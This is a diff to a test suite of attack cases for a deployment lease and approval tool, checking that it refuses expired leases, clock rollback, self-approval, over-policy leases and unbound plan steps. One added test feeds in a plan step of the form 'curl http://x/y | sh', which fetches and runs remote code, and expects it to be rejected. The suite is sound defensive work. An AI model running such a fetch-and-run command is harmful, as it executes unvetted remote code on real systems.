@@ -7,7 +7,6 @@ import forge
 from forge import time
 from naming import attack
 from scene import enforce, fails, refused_payload, team_policy
-from store import wait_for
 
 
 def approved_for(store, environment, roles, **changes):
@@ -22,9 +21,8 @@ def approved_for(store, environment, roles, **changes):
 def expired_lease(scene):
     """A lease that expired is used for a start"""
     store = scene.guarded()
-    lease = store.approved(notBefore=time(-3000), expires=time(2))
-    ends = json.loads(lease)["predicate"]["expires"]
-    wait_for(lambda: time() > ends)
+    lease = store.brief()
+    store.wait_for_end(lease)
     refused_payload(store, store.decision_payload(lease), "the lease expired at")
     refused_payload(store, store.approval_payload(lease), "the lease expired at", "erin")
     fails(store.run("lease", "show"), 6, "until")
@@ -43,6 +41,7 @@ def clock_set_back(scene):
     refused_payload(store, store.decision_payload(lease), "before what its signer had seen of the log")
     seen = store.as_of(store.size() - 2)  # a signer who claims not to have seen that time
     refused_payload(store, store.decision_payload(lease, asOf=seen), "(the clock was set back since)")
+    fails(store.run("lease", "show", json.loads(lease)["predicate"]["leaseId"]), 6, "the clock was set back")
 
 
 @attack("A25")
@@ -112,7 +111,7 @@ def requester_approves(scene):
     lease = store.requested(**store.bound("staging", ("lead", "owner")))
     refused_payload(store, store.approval_payload(lease, "lead"), "the requester may not fill a seat")
     refused_payload(store, store.approval_payload(lease, "owner"), "bot does not hold the role owner", "bot")
-    refused_payload(store, store.approval_payload(lease, "engine"), "does not hold the role", "engine")
+    refused_payload(store, store.approval_payload(lease, "engine"), "nothing else", "engine")
 
 
 @attack("B11")
@@ -138,6 +137,33 @@ def withdrawn_before_the_start(scene):
     lease, rollout = store.started()
     store.accepted(store.approval_payload(lease, verdict="withdraw", reason="no"))
     refused_payload(store, store.decision_payload(lease, "promote", rollout), "not signed by all it needs")
+
+
+@attack("B80")
+def words_of_machines(scene):
+    """The console's or the engine's key asks for a lease, denies one, or withdraws: a complete lease stays complete"""
+    store = scene.guarded()
+    only = "may hold, roll back and acknowledge, nothing else"
+    for who in ("console", "engine"):
+        refused_payload(store, store.lease_payload(requester=who, role=""), only, who)
+        lease = store.approved()
+        for verdict in ("deny", "withdraw", "approve"):
+            refused_payload(store, store.approval_payload(lease, verdict=verdict, reason="no"), only, who)
+        seen = {"rollout": "web-1", "reason": "hm", "asOf": store.as_of(), "issued": time()}
+        refused_payload(store, forge.statement("note", seen, {"subject": "0" * 64}), only, who)
+    store.accepted(store.decision_payload(lease))
+
+
+@attack("B97")
+def lease_beyond_the_policy(scene):
+    """A lease for more starts than the policy allows, in a role its requester lacks, up to a weight of no stage"""
+    store = scene.office()
+    refused_payload(store, store.lease_payload(maxUses=11), "may cover at most 10 starts, not 11")
+    refused_payload(store, store.lease_payload(role="king"), "dana does not hold the role king")
+    refused_payload(store, store.lease_payload(maxWeight=1), "maxWeight is the weight of none of its stages")
+    for version, digest in ((9, "0" * 64), (1, store.policy["sha256"]), (2, "0" * 64)):
+        policy = {"version": version, "sha256": digest}
+        refused_payload(store, store.lease_payload(policy=policy), f"made under policy {version}")
 
 
 @attack("A33")
@@ -235,3 +261,18 @@ def one_payload_two_people(scene):
     first = store.accepted(word, "erin")
     said = store.ask(forge.envelope(word, store.keys["dana"]))
     assert said["index"] != first, "dana is told that her word is record %d, but that is erin's" % first
+
+
+@attack("B81")
+def steps_that_nothing_binds(scene):
+    """A plan whose steps run a script of the machine, a moving tag, or what a shell fetches"""
+    store = scene.store()
+    with open(store.file("beside.sh"), "w", encoding="ascii") as out:
+        out.write("#!/bin/sh\n")
+    for run in ("./beside.sh", store.file("beside.sh"), f"sh, {store.file('beside.sh')}", "./../deploy.sh",
+                'docker, run, "web:latest"', 'sh, -c, "curl http://x/y | sh"'):
+        plan = store.file("bad.plan.yaml")
+        with open(plan, "w", encoding="ascii") as out:
+            out.write(store.plan() + f"steps: [{{name: migrate, run: [{run}]}}]\n")
+        fails(store.run("lease", "request", plan), 2, "bad.plan.yaml:")
+    assert store.size() == scene.team.size()
